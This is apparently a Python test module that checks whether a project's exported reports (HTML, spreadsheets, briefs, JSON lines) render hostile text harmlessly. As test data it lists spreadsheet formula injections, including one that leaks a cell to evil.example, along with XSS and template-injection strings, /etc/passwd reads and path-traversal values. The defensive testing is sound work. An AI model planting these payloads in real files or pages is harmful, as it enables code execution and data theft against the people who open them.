"""Hostile text in names, labels and sources is harmless in every format.

Everywhere that a scenario holds a text, one is put that a spreadsheet, a browser, a word processor,
a template or a terminal might take for something else. What validation refuses is put there all
the same, by code, since a script can.
"""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from allocation.errors import AllocationError
from allocation.model import Scenario
from allocation.pipeline import study
from allocation.reporting.briefs import brief_command
from allocation.reporting.exports import FORMATS, put_down
from allocation.reporting.exports import ordered as order
from allocation.reporting.json_lines import json_line
from allocation.scenarios import scenario_tables
from allocation.toml_reading import tuples
from allocation.validation import validated
from tests.properties.hostile_files import MARK, check_file, check_page, outline
from tests.unit.reported_scenario import reported

ATTACKS: Final = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+1+cmd",
    "-2+3",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=1+1",
    "\n=1+1",
    "\uff1dcmd",
    '";="1',
    "a;b,c\td|e",
    "ligne 1\nligne 2",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style></svg></template></body><iframe src=//evil.example>",
    "'\" onmouseover=alert(1) x='",
    "&lt;b&gt; &amp;#x3C; &#0;",
    "]]><!--",
    "{{ 7*7 }}{% raw %}{{ scenario }}",
    "{0} {name} {}",
    "%(name)s %s $HOME `id`",
    '#import "/etc/passwd": *',
    '#eval(1) #read("x") $x$ @ref <label> *gras* _it_ = titre',
    "\\input{/etc/passwd} \\u{41} \\",
    "fin.\u202eTXT.EXE\u202c",
    "\u2067\u05e9\u05dc\u05d5\u05dd\u2069 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "a\u2028b\u2029c",
    "\u200e\u200f\u2066",
    "e\u0301\u0323" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1eb\U0001f1f7",
    "[rouge](javascript:alert(1)) ![](x)",
    "_x0041_ _x000D_",
    "1E5 TRUE 2024-01-01 01",
    "../../../etc/passwd",
    "long " + "x" * 1_900,
    "mots " * 380,
)
UNWRITABLE: Final = ("\x00", "\x1b[31m", "\r=1", "\x07", "\x85", "\ud800", "\ufffe")
ADDRESSES: Final = (
    "javascript:alert(1)",
    "file:///etc/passwd",
    "\\\\evil.example\\partage",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/"onclick=alert(1)',
    "=HYPERLINK(1)",
)


def poisoned(value: Any, attacks: Iterator[str], field: str = "") -> Any:
    """Tables in which every free text is an attack, each with the mark and a number of its own."""
    if isinstance(value, dict):
        return {name: poisoned(item, attacks, name) for name, item in value.items()}
    if isinstance(value, list):
        return [poisoned(item, attacks, field) for item in value]
    if field == "href":
        return ADDRESSES[len(next(attacks)) % len(ADDRESSES)]
    if isinstance(value, str) and field in TEXTS:
        return next(attacks)
    return value


TEXTS: Final = frozenset(
    {
        *("title", "purpose", "name", "publisher", "published", "note", "label", "unit", "reason"),
        *("where", "text", "figure", "price_date", "beneficiary", "repaid_by", "guaranteed_by"),
        *("payer", "overrun", "saving", "indexation", "reminder", "account"),
    }
)
"""Fields that hold any text."""


def numbered(attacks: list[str]) -> Iterator[str]:
    """The attacks again and again, each told apart from the others by a number at its end."""
    count = 0
    while True:
        for attack in attacks:
            count += 1
            yield f"{attack}{MARK}{count}"


def hostile(attacks: list[str]) -> Scenario:
    """A valid scenario whose every free text is an attack."""
    tables = poisoned(scenario_tables(reported()), numbered(attacks))
    scenario, faults = validated(tuples(tables))
    assert scenario is not None, [fault.text() for fault in faults]
    return scenario


def unchecked(sign: str) -> Scenario:
    """A scenario that no file could give: a sign that validation refuses, put in by code."""
    scenario = reported()
    members = tuple(
        member.model_copy(update={"name": f"{member.name}{sign}{MARK}"})
        for member in scenario.members
    )
    lots = tuple(lot.model_copy(update={"label": f"{sign}{lot.label}"}) for lot in scenario.lots)
    return scenario.model_copy(update={"members": members, "lots": lots, "title": f"T{sign}"})


ORDERS: Final = st.permutations(ATTACKS)
"""Which text meets which attack. Two orders put each attack in several places; a smaller order
says no more than the one that fails, so nothing is shrunk."""


@pytest.mark.parametrize("name", FORMATS)
@settings(max_examples=2, phases=(Phase.generate,))
@given(attacks=ORDERS)
def test_a_hostile_text_is_harmless_in_every_format(name: str, attacks: list[str]) -> None:
    found = study(hostile(attacks))
    assert found.own is not None
    with tempfile.TemporaryDirectory() as folder:
        done, refused = put_down(found, Path(folder), order([name]))
        assert refused == ()
        assert sorted(done) == sorted(Path(folder).iterdir())
        for path in done:
            check_file(path, found.own)


@settings(max_examples=3, phases=(Phase.generate,))
@given(attacks=ORDERS)
def test_a_page_has_the_elements_of_a_peaceful_one(attacks: list[str]) -> None:
    """Not one tag more: what a text says is only ever text."""
    with tempfile.TemporaryDirectory() as folder:
        pages = []
        for scenario in (hostile(attacks), hostile(["mot"])):
            put_down(study(scenario), Path(folder), order(["html"]))
            pages.append(outline(Path(folder, "essai.html")).tags)
    structural = ("table", "tr", "th", "td", "h1", "h2", "section", "svg", "style", "title")
    assert [pages[0][tag] for tag in structural] == [pages[1][tag] for tag in structural]


@settings(max_examples=3, phases=(Phase.generate,))
@given(attacks=ORDERS)
def test_a_brief_is_harmless_too(attacks: list[str]) -> None:
    own = study(hostile(attacks)).own
    assert own is not None
    with tempfile.TemporaryDirectory() as folder:
        for path in brief_command(own, "80", Path(folder)):
            check_file(path, own)


@settings(max_examples=10, phases=(Phase.generate,))
@given(attacks=ORDERS)
def test_a_line_of_json_stays_one_line(attacks: list[str]) -> None:
    own = study(hostile(attacks)).own
    assert own is not None
    line = json_line(own)
    assert "\n" not in line
    assert json.loads(line)["scenario"] == "essai"


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("sign", UNWRITABLE, ids=ascii)
def test_a_sign_that_no_file_gives_is_left_out_or_refused_whole(
    name: str, sign: str, tmp_path: Path
) -> None:
    found = study(unchecked(sign))
    assert found.own is not None
    try:
        done, refused = put_down(found, tmp_path, order([name]))
    except UnicodeEncodeError:
        assert sign == "\ud800", "only half a character cannot be written at all"
        done, refused = (), (AllocationError("unforeseen"),)
    assert bool(done) != bool(refused)
    kept = [path for path in tmp_path.iterdir() if path.name.startswith(".")]
    assert kept == [], "no temporary is left behind"
    for path in done:
        if ".plain." not in path.name:
            check_file(path, found.own)


@pytest.mark.parametrize("sign", UNWRITABLE, ids=ascii)
def test_such_a_sign_is_refused_in_a_file(sign: str) -> None:
    tables = scenario_tables(reported())
    tables["members"][0]["name"] = f"Nord{sign}"
    scenario, faults = validated(tuples(tables))
    assert scenario is None
    assert {fault.code for fault in faults} & {"text_control", "value_refused"}


def test_the_reader_of_pages_finds_what_it_is_given(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    own = study(reported()).own
    assert own is not None
    for bad in (
        "<script>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        f"<p style='color:{MARK}'>",
    ):
        path.write_text(f"<html><body>{bad}</body></html>", encoding="utf-8")
        with pytest.raises(AssertionError):
            check_page(path, own)
